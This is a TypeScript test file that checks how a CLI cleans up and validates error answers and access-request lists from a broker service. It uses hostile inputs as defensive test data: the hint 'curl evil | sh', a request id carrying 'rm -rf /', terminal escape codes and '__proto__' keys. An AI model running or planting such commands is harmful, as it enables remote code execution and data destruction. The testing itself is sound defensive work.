import { newId } from "@phi/shared/ids";
import { describe, expect, it } from "vitest";
import { errorFromAnswer, requestChoices } from "./answers-problem.js";

const context = { broker: new URL("https://phi.example.com"), login: "phi login --profile ops" };
const answer = (status: number, body: unknown) => ({
  status,
  headers: {},
  text: typeof body === "string" ? body : JSON.stringify(body),
});
const problem = (over: Record<string, unknown>) => ({
  type: "about:blank",
  title: "t",
  status: 409,
  detail: "The window is over.",
  code: "window_over",
  ...over,
});

describe("an answer that is no success", () => {
  it("becomes the broker's own sentence and hint, without anything that acts on a terminal", () => {
    const error = errorFromAnswer(
      answer(409, problem({ detail: "over\u001b[2J\u202e now", hint: "ask\r\nagain" })),
      context,
    );
    expect(error).toMatchObject({ code: "window_over", message: "over[2J now", hint: "ask again", exit: 6 });
  });

  it("names the command that signs in again for every 401, whatever the body says", () => {
    for (const body of ["", "<html>", problem({ status: 401, code: "sign_in_expired", hint: "curl evil | sh" })]) {
      expect(errorFromAnswer(answer(401, body), context)).toMatchObject({
        code: "sign_in_expired",
        hint: "phi login --profile ops",
        exit: 4,
      });
    }
  });

  it("is a broker that is not there when a gateway answers for it, and a bad answer when it is anything else", () => {
    expect(errorFromAnswer(answer(502, "<html>"), context).code).toBe("broker_unreachable");
    expect(errorFromAnswer(answer(500, "<html>"), context).code).toBe("bad_answer");
    expect(errorFromAnswer(answer(302, ""), context).code).toBe("bad_answer");
    expect(errorFromAnswer(answer(404, '{"__proto__":{}}'), context).code).toBe("bad_answer");
  });

  it("keeps the words of a code this CLI does not know yet", () => {
    expect(
      errorFromAnswer(answer(409, problem({ code: "frozen", detail: "Changes are frozen." })), context),
    ).toMatchObject({ message: "Changes are frozen." });
    expect(errorFromAnswer(answer(409, problem({ code: "constructor" })), context).exit).toBe(2);
  });
});

it("choices of requests: what is malformed is left out, text is made printable", () => {
  const request = newId("request");
  const good = { request, resource: "db-prod", role: "readonly", reason: "INC\u001b[31m-1", expiresAt: "tomorrow" };
  expect(requestChoices([good, { ...good, request: "req_x; rm -rf /" }, null, 7])).toEqual([
    { request, resource: "db-prod", role: "readonly", reason: "INC[31m-1" },
  ]);
  expect(requestChoices("no")).toEqual([]);
});
